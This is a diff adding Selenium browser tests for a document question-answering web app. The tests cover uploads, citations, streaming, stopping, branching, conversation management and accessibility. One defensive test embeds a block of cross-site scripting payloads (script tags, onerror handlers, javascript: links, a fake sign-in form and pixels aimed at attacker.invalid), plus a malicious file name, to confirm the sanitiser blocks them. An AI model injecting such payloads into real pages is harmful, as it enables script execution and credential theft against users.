@@ -1,0 +1,259 @@
+"""The page in a real browser, in front of the whole stack."""
+
+from __future__ import annotations
+
+import threading
+from pathlib import Path
+
+import pytest
+from selenium.webdriver.common.keys import Keys
+
+from sluice.testing.pdfs import pdf
+from tests.page.model import Model
+from tests.page.window import Window
+
+SPEED = "The sluice gate opens at forty two centimetres."
+
+
+@pytest.fixture
+def manual(tmp_path: Path) -> Path:
+    """A PDF of two pages."""
+    file = tmp_path / "gate-manual.pdf"
+    file.write_bytes(pdf("Welcome to the manual of the gate.", SPEED))
+    return file
+
+
+LOADED = "return performance.getEntriesByType('resource').map((each) => each.name)"
+TITLES = "return [...document.querySelectorAll('#conversations a')].map((link) => link.textContent)"
+
+
+def put(window: Window, file: Path) -> None:
+    """Upload a file on the page and wait until it is ready."""
+    window.open("#/documents")
+    window.upload(file)
+    window.find(".upload.ready", file.name)
+
+
+def test_from_an_upload_to_the_cited_page(window: Window, scripted: Model, manual: Path) -> None:
+    """A PDF is dropped in, becomes ready, is asked about, and the citation opens the quote at its page."""
+    put(window, manual)
+    window.find(".document .badge", "Ready")
+    window.find(".new").click()
+    half = threading.Event()
+    scripted.enqueue("It opens at **forty two** ", half, "centimetres [1].")
+    window.ask("At how many centimetres does the sluice gate open?")
+
+    window.until(lambda: window.answer() == "It opens at forty two")
+    assert window.find("#stop").is_displayed()
+    half.set()
+    window.until(lambda: window.answer() == "It opens at forty two centimetres 1.")
+    window.find(".answer .citation").click()
+
+    card = window.find(".card.open")
+    assert [card.find_element("css selector", part).text for part in (".place", "mark")] == [
+        "Page 2 · gate-manual.pdf",
+        SPEED,
+    ]
+    assert str(window.find(".card.open a").get_attribute("href")).endswith("#page=2")
+
+
+def test_blocks_that_are_finished_are_left_alone(window: Window, scripted: Model) -> None:
+    """While later text comes, an earlier paragraph stays the same node: a selection in it survives."""
+    more = threading.Event()
+    scripted.enqueue("First paragraph.\n\nSecond ", more, "one.\n\n```\ncode\n```\n")
+    window.ask("Anything?")
+    window.until(lambda: "Second" in window.answer())
+    window.run("window.first = document.querySelector('.answer .prose p')")
+    more.set()
+    window.find(".answer .code .copy")
+
+    assert window.run("return window.first.isConnected && window.first.textContent") == "First paragraph."
+
+
+def test_stop_ends_the_answer_and_keeps_what_was_said(window: Window, scripted: Model) -> None:
+    """The half that came stays, also after a reload, and says that it was stopped."""
+    never = threading.Event()
+    scripted.enqueue("Only the beginning", never, " and never the end.")
+    window.ask("Something long?")
+    window.until(lambda: window.answer() == "Only the beginning")
+    window.find("#stop").click()
+    window.find(".answer .status", "Stopped.")
+    never.set()
+    window.reload()
+
+    window.find(".answer .status", "Stopped.")
+    assert window.answer() == "Only the beginning"
+
+
+def test_a_reload_in_the_middle_of_an_answer_finds_it(window: Window, scripted: Model) -> None:
+    """The conversation opens again at its address, and the answer goes on to its end."""
+    rest = threading.Event()
+    scripted.enqueue("Before the reload ", rest, "and after it.")
+    window.ask("What survives?")
+    window.until(lambda: window.answer() == "Before the reload")
+    window.reload()
+    window.until(lambda: window.answer() == "Before the reload")
+    rest.set()
+
+    window.until(lambda: window.answer() == "Before the reload and after it.")
+    window.gone("#stop")
+    assert window.find(".question .bubble").text == "What survives?"
+
+
+def test_editing_a_question_makes_a_branch_to_step_through(window: Window, scripted: Model) -> None:
+    """The first version stays and is a step away, also after a reload."""
+    scripted.enqueue("First answer.")
+    window.ask("First version?")
+    window.until(lambda: window.answer() == "First answer." and not window.all("#stop"))
+    scripted.enqueue("Second answer.")
+    window.run("arguments[0].click()", window.driver.find_element("css selector", "[aria-label='Edit question']"))
+    field = window.find(".editor textarea")
+    field.clear()
+    field.send_keys("Second version?", Keys.ENTER)
+    window.until(lambda: window.answer() == "Second answer." and not window.all("#stop"))
+    assert window.find(".question .stepper").text == "2/2"
+
+    window.button("Previous version").click()
+    window.until(lambda: window.answer() == "First answer.")
+    assert window.find(".question .bubble").text == "First version?"
+    window.reload()
+    window.until(lambda: window.answer() == "First answer.")
+
+
+def test_regenerating_keeps_the_other_answer(window: Window, scripted: Model) -> None:
+    """Another answer stands beside the first."""
+    scripted.enqueue("One way.")
+    window.ask("Which way?")
+    window.until(lambda: window.answer() == "One way." and not window.all("#stop"))
+    scripted.enqueue("Another way.")
+    window.button("Regenerate answer").click()
+    window.until(lambda: window.answer() == "Another way." and not window.all("#stop"))
+
+    assert window.find(".answer .stepper").text == "2/2"
+
+
+def test_conversations_are_renamed_found_and_deleted(window: Window, scripted: Model) -> None:
+    """All from the list beside them."""
+    scripted.enqueue("Yes.")
+    window.ask("Is this about turbines?")
+    window.until(lambda: window.answer() == "Yes." and not window.all("#stop"))
+    window.find("#conversations a[aria-current]")
+    item = window.driver.find_element("css selector", "#conversations li:has([aria-current]) [aria-label^=Rename]")
+    window.run("arguments[0].click()", item)
+    window.find("#conversations input").send_keys(Keys.CONTROL, "a")
+    window.find("#conversations input").send_keys("Turbine talk", Keys.ENTER)
+    window.find("#conversations a", "Turbine talk")
+    window.find("#search").send_keys("turbine talk")
+    window.until(lambda: window.run(TITLES) == ["Turbine talk"])
+
+    window.run(
+        "arguments[0].click()", window.driver.find_element("css selector", "[aria-label='Delete “Turbine talk”']")
+    )
+    window.button("Delete").click()
+    window.find("#conversations", "Nothing found.")
+    window.find(".welcome")
+
+
+HOSTILE = """
+<script>window.attacked = "script"</script>
+<img src="https://attacker.invalid/pixel.png" onerror="window.attacked = 'image'">
+<form action="https://attacker.invalid/"><input name="key"><button>Sign in again</button></form>
+<style>body { display: none }</style>
+<a href="javascript:window.attacked='link'">Open the source</a>
+
+[Read more](javascript:window.attacked='markdown') ![pixel](https://attacker.invalid/other.png)
+[1](https://attacker.invalid/cite) and [7] and [1]
+
+[1]: https://attacker.invalid/definition
+"""
+
+
+def test_what_a_hostile_document_says_has_no_effect(window: Window, scripted: Model, tmp_path: Path) -> None:
+    """Scripts, forms, images, javascript: links and false citations of a document that the model repeats do nothing."""
+    file = tmp_path / "<img src=x onerror=alert(1)>.md"
+    file.write_text(f"# <script>window.attacked='title'</script> Quarterly figures\n{HOSTILE}")
+    put(window, file)
+    window.find(".new").click()
+    scripted.enqueue(HOSTILE)
+    window.ask("What do the quarterly figures say?")
+    window.gone("#stop")
+    window.find(".answer .citation").click()
+    window.find(".card.open mark")
+    for link in window.driver.find_elements("css selector", ".answer a"):
+        window.run(
+            "arguments[0].removeAttribute('target'); arguments[0].href.startsWith('http') || arguments[0].click()", link
+        )
+
+    assert window.run("return window.attacked ?? null") is None
+    inside = "script, img, form, input, style, iframe, object, [onerror], [style], a[href^='javascript' i]"
+    assert (
+        window.run(
+            "return document.querySelectorAll(`#thread :is(${arguments[0]}), #sources :is(${arguments[0]})`).length",
+            inside,
+        )
+        == 0
+    )
+    assert [link.get_attribute("href") for link in window.all(".answer a[href]")] == [
+        "https://attacker.invalid/cite",
+        "https://attacker.invalid/definition",
+    ]
+    assert "1 (attacker.invalid)" in window.answer()
+    assert {button.text for button in window.all(".answer .citation")} == {"1"}
+    assert [each for each in window.complaints() if "The action has been blocked." not in each] == []
+    assert [name for name in window.run(LOADED) if "attacker" in name] == []
+
+
+def test_the_policy_refuses_what_the_sanitiser_would_let_through(window: Window) -> None:
+    """A script, a style and an image that somehow got onto the page do not run, apply or load."""
+    window.run(
+        """
+        const script = document.createElement("p");
+        try { script.innerHTML = "<img src=x onerror='window.attacked = 1'>"; }
+        catch (error) { window.refused = error.name; }
+        document.body.append(script, Object.assign(new Image(), { src: "https://attacker.invalid/pixel.png" }));
+        """
+    )
+    window.until(lambda: any("attacker.invalid" in each for each in window.complaints()))
+
+    assert window.run("return [window.attacked ?? null, window.refused]") == [None, "TypeError"]
+    window.complaints()
+
+
+def test_an_unreachable_model_says_what_to_do(window: Window, scripted: Model) -> None:
+    """An answer that breaks off keeps its text and offers another try, which works."""
+    scripted.enqueue("Here.")
+    window.run("window.real = window.fetch; window.fetch = () => Promise.reject(new TypeError('offline'))")
+    window.ask("Are you there?")
+    window.find(".failure", "can't be reached")
+    window.run("window.fetch = window.real")
+    window.button("Try again").click()
+
+    window.until(lambda: window.answer() == "Here.")
+    window.gone(".failure")
+
+
+def test_the_keyboard_is_enough(window: Window, scripted: Model) -> None:
+    """`/` goes to the question, Enter asks, Escape stops; a citation is reached by Tab and opened by Enter."""
+    window.run("document.activeElement.blur()")
+    window.find("body").send_keys("/")
+    assert window.driver.switch_to.active_element.get_attribute("id") == "question"
+    held = threading.Event()
+    scripted.enqueue("Waiting ", held, "no more.")
+    window.ask("By keyboard?")
+    window.until(lambda: window.answer() == "Waiting")
+    window.driver.switch_to.active_element.send_keys(Keys.ESCAPE)
+    window.find(".answer .status", "Stopped.")
+    held.set()
+
+
+@pytest.mark.parametrize("place", ["", "#/documents", "#/usage"])
+def test_nothing_is_wider_than_a_small_telephone(window: Window, place: str) -> None:
+    """At 360 pixels nothing has to be scrolled sideways."""
+    window.driver.execute_cdp_cmd(
+        "Emulation.setDeviceMetricsOverride", {"width": 360, "height": 720, "deviceScaleFactor": 1, "mobile": True}
+    )
+    try:
+        window.open(place)
+        assert window.run("return [innerWidth, document.documentElement.scrollWidth]") == [360, 360]
+    finally:
+        window.driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
